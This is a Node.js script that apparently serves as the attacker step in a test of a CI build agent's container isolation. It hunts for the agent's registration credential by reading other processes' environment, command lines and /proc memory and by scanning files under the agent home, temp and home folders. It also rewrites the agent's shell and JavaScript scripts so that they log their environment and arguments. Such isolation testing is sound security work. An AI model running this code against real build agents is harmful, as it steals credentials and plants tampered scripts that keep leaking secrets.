"use strict";
// A job step that hunts for the agent's registration credential inside its container, as an
// attacker's pull-request build would (plain Node, no dependencies: it runs wherever the agent
// runs). The credential is given to it XOR-masked, so that nothing it runs holds it in clear.
//
//   node secretHunt.job.js <maskedNeedles> <canary>
//
// It reads the environ, cmdline and every readable region of /proc/<pid>/mem of each process of
// the container (itself excepted), every file under AZP_HOME, the temp folder and HOME, and
// rewrites every script under AZP_HOME so that whatever runs it later prints its environment and
// arguments to the container log. It prints one line: SECRET-HUNT-REPORT <json>. `canary` is a
// value the container's main process is known to hold (its agent name): finding it in that
// process's memory shows the memory was really read.
//
// The container's processes: the container's main process and its descendants. The main
// process is the topmost ancestor of this process (PID 1 in a real container) that still has
// this container's HOSTNAME in its environment; in the emulator, where a container is a process
// tree on the host, that is the process the emulator started (see emulator/README.md).
const fs = require("node:fs");
const os = require("node:os");
const path = require("node:path");

const mask = 0x5a;
const captureTag = "SECRET-HUNT-CAPTURE";
const needles = (process.argv[2] ?? "")
  .split(",")
  .filter((hex) => hex !== "")
  .map((hex) => Buffer.from(hex, "hex").map((byte) => byte ^ mask));
const canary = Buffer.from(process.argv[3] ?? "", "utf8");

/** Each needle as it may sit in memory or a file: UTF-8, UTF-16LE, base64 at any alignment. */
function variantsOf(needle, index) {
  const text = needle.toString("utf8");
  const variants = [
    { name: "utf8", bytes: needle },
    { name: "utf16le", bytes: Buffer.from(text, "utf16le") },
  ];
  for (const offset of [0, 1, 2]) {
    const encoded = Buffer.concat([Buffer.alloc(offset, 0x41), needle]).toString("base64");
    // Only the characters that depend on the needle's bytes alone.
    const stable = encoded.slice(offset === 0 ? 0 : 4, Math.floor((offset + needle.length) / 3) * 4);
    variants.push({ name: `base64@${offset}`, bytes: Buffer.from(stable, "latin1") });
  }
  return variants.map((v) => ({ ...v, needle: index }));
}
const variants = needles.flatMap(variantsOf);
const longest = Math.max(canary.length, ...variants.map((v) => v.bytes.length));

const findings = [];
function search(where, buffer) {
  for (const variant of variants) {
    if (buffer.includes(variant.bytes)) findings.push({ where, needle: variant.needle, encoding: variant.name });
  }
}

function readText(file) {
  try {
    return fs.readFileSync(file, "latin1");
  } catch {
    return undefined;
  }
}

function parentOf(pid) {
  const stat = readText(`/proc/${pid}/stat`);
  if (stat === undefined) return 0;
  return Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
}

function environOf(pid) {
  return (readText(`/proc/${pid}/environ`) ?? "").split("\0");
}

function containerRoot() {
  const hostname = `HOSTNAME=${process.env.HOSTNAME ?? ""}`;
  let root = process.pid;
  let pid = parentOf(process.pid);
  while (pid > 0) {
    if (!environOf(pid).includes(hostname)) break;
    root = pid;
    if (pid === 1) break;
    pid = parentOf(pid);
  }
  return root;
}

function containerProcesses(root) {
  const children = new Map();
  for (const entry of fs.readdirSync("/proc")) {
    if (!/^\d+$/.test(entry)) continue;
    const parent = parentOf(entry);
    children.set(parent, [...(children.get(parent) ?? []), Number(entry)]);
  }
  const found = [];
  const queue = [root];
  while (queue.length > 0) {
    const pid = queue.shift();
    found.push(pid);
    queue.push(...(children.get(pid) ?? []));
  }
  return found;
}

/** Reads every readable mapping of the process; answers the bytes read and whether the canary was there. */
function scanMemory(pid) {
  const maps = readText(`/proc/${pid}/maps`);
  if (maps === undefined) return { bytes: 0, canary: false, error: "maps unreadable" };
  let fd;
  try {
    fd = fs.openSync(`/proc/${pid}/mem`, "r");
  } catch (error) {
    return { bytes: 0, canary: false, error: String(error.code ?? error) };
  }
  let bytes = 0;
  let sawCanary = false;
  const chunkSize = 8 * 1024 * 1024;
  const chunk = Buffer.alloc(chunkSize + longest);
  try {
    for (const line of maps.split("\n")) {
      const [range, perms, , , , name] = line.trim().split(/\s+/);
      if (range === undefined || perms === undefined || !perms.startsWith("r")) continue;
      if (name === "[vvar]" || name === "[vsyscall]" || name === "[vvar_vclock]") continue;
      const [start, end] = range.split("-").map((hex) => parseInt(hex, 16));
      let carried = 0;
      for (let at = start; at < end; at += chunkSize) {
        const length = Math.min(chunkSize, end - at);
        let read;
        try {
          read = fs.readSync(fd, chunk, carried, length, at);
        } catch {
          break;
        }
        if (read <= 0) break;
        bytes += read;
        const view = chunk.subarray(0, carried + read);
        search(`/proc/${pid}/mem`, view);
        if (canary.length > 0 && view.includes(canary)) sawCanary = true;
        // Keep the tail, so that a needle across two chunks is found too.
        carried = Math.min(longest, view.length);
        view.copy(chunk, 0, view.length - carried);
      }
    }
  } finally {
    fs.closeSync(fd);
  }
  return { bytes, canary: sawCanary };
}

function filesUnder(dir) {
  const files = [];
  const stack = [dir];
  while (stack.length > 0) {
    const current = stack.pop();
    let entries;
    try {
      entries = fs.readdirSync(current, { withFileTypes: true });
    } catch {
      continue;
    }
    for (const entry of entries) {
      const full = path.join(current, entry.name);
      if (entry.isDirectory()) stack.push(full);
      else if (entry.isFile()) files.push(full);
    }
  }
  return files;
}

const shellCapture = `{ printf '${captureTag} argv %s\\n' "$0 $*"; env | sed 's/^/${captureTag} env /'; } >&2 || :`;
const nodeCapture = `try { process.stderr.write("${captureTag} " + JSON.stringify({ argv: process.argv, env: process.env }) + "\\n"); } catch {}`;

/** Makes a script print its environment and arguments whenever it runs; answers whether it did. */
function rewrite(file) {
  const text = readText(file);
  if (text === undefined) return false;
  const firstLine = text.split("\n", 1)[0] ?? "";
  let line;
  if (file.endsWith(".js") || file.endsWith(".cjs")) line = nodeCapture;
  else if (file.endsWith(".sh") || (firstLine.startsWith("#!") && /sh\b/.test(firstLine))) line = shellCapture;
  else return false;
  const rewritten = firstLine.startsWith("#!") ? `${firstLine}\n${line}\n${text.slice(firstLine.length + 1)}` : `${line}\n${text}`;
  try {
    fs.writeFileSync(file, rewritten, "latin1");
    return true;
  } catch {
    return false;
  }
}

const azpHome = process.env.AZP_HOME ?? "/azp";
const root = containerRoot();
const processes = [];
for (const pid of containerProcesses(root)) {
  if (pid === process.pid) continue;
  const environ = readText(`/proc/${pid}/environ`);
  const cmdline = readText(`/proc/${pid}/cmdline`);
  if (environ !== undefined) search(`/proc/${pid}/environ`, Buffer.from(environ, "latin1"));
  if (cmdline !== undefined) search(`/proc/${pid}/cmdline`, Buffer.from(cmdline, "latin1"));
  processes.push({ pid, cmdline: (cmdline ?? "").split("\0").join(" ").trim().slice(0, 200), environ: environ !== undefined, memory: scanMemory(pid) });
}

let filesRead = 0;
const folders = [...new Set([azpHome, os.tmpdir(), os.homedir()].map((d) => path.resolve(d)))];
for (const folder of folders) {
  for (const file of filesUnder(folder)) {
    let content;
    try {
      if (fs.statSync(file).size > 512 * 1024 * 1024) continue;
      content = fs.readFileSync(file);
    } catch {
      continue;
    }
    filesRead++;
    search(file, content);
  }
}

const work = path.resolve(azpHome, process.env.AGENT_WORKFOLDER ?? "_work");
const rewritten = filesUnder(azpHome)
  .filter((file) => !file.startsWith(`${process.env.AGENT_WORKFOLDER ?? work}/`) && !file.startsWith(`${work}/`))
  .filter(rewrite)
  .map((file) => path.relative(azpHome, file));

const report = { root, processes, folders, filesRead, rewritten, findings };
process.stdout.write(`SECRET-HUNT-REPORT ${JSON.stringify(report)}\n`);
